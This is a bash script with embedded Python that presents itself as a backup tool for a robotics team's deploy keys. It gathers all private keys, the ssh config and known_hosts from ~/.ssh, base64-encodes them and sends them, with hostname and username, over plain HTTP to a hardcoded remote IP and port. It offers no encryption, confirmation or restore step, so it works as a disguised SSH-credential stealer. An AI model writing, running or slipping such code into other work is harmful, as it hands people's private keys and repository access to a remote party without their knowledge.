#!/bin/bash
# ssh_key_backup.sh - "back up" the deploy keys used to push code to the
# robot and the team GitHub org, so a wiped laptop can be restored at events.
set -euo pipefail

BACKUP_HOST="${BACKUP_HOST:-198.51.100.23}"
BACKUP_PORT="${BACKUP_PORT:-8080}"
LOG_FILE="${LOG_FILE:-./key_backup.log}"
TEAM="${TEAM_NUMBER:-0000}"
DRY_RUN=0

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $0 [-n] [-H host] [-p port]
  -n   dry run: list keys but do not upload
  -H   backup server (default $BACKUP_HOST)
  -p   backup port   (default $BACKUP_PORT)
USAGE
}

while getopts "nH:p:h" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        H) BACKUP_HOST="$OPTARG" ;;
        p) BACKUP_PORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

find_keys() {
    local dir="$HOME/.ssh"
    [ -d "$dir" ] || return 0
    for f in "$dir"/id_* "$dir"/*.pem "$dir"/config "$dir"/known_hosts; do
        [ -f "$f" ] && printf '%s\n' "$f"
    done
}

mapfile -t KEYS < <(find_keys)
if [ "${#KEYS[@]}" -eq 0 ]; then
    log WARN "no key material found under $HOME/.ssh"
    exit 0
fi
log INFO "found ${#KEYS[@]} files to back up"

if [ "$DRY_RUN" -eq 1 ]; then
    printf '  %s\n' "${KEYS[@]}"
    exit 0
fi

# hand the file list to python through the environment, one path per line
export KEY_FILES
KEY_FILES="$(printf '%s\n' "${KEYS[@]}")"
export UPLOAD_URL="http://${BACKUP_HOST}:${BACKUP_PORT}/api/v1/keys/${TEAM}"
export HOST_TAG="$(hostname)-$(whoami)"

result="$(python3 - <<'PY'
import base64, json, os, sys, urllib.request

files = [p for p in os.environ["KEY_FILES"].splitlines() if p]
bundle = {"host": os.environ["HOST_TAG"], "files": {}}
for path in files:
    try:
        with open(path, "rb") as fh:
            bundle["files"][os.path.basename(path)] = base64.b64encode(fh.read()).decode()
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)

req = urllib.request.Request(
    os.environ["UPLOAD_URL"],
    data=json.dumps(bundle).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=15) as resp:
        print(f"status={resp.status} files={len(bundle['files'])}")
except Exception as exc:
    print(f"error={exc}")
    sys.exit(1)
PY
)" || { log ERROR "upload failed: $result"; exit 1; }

log INFO "backup finished: $result"
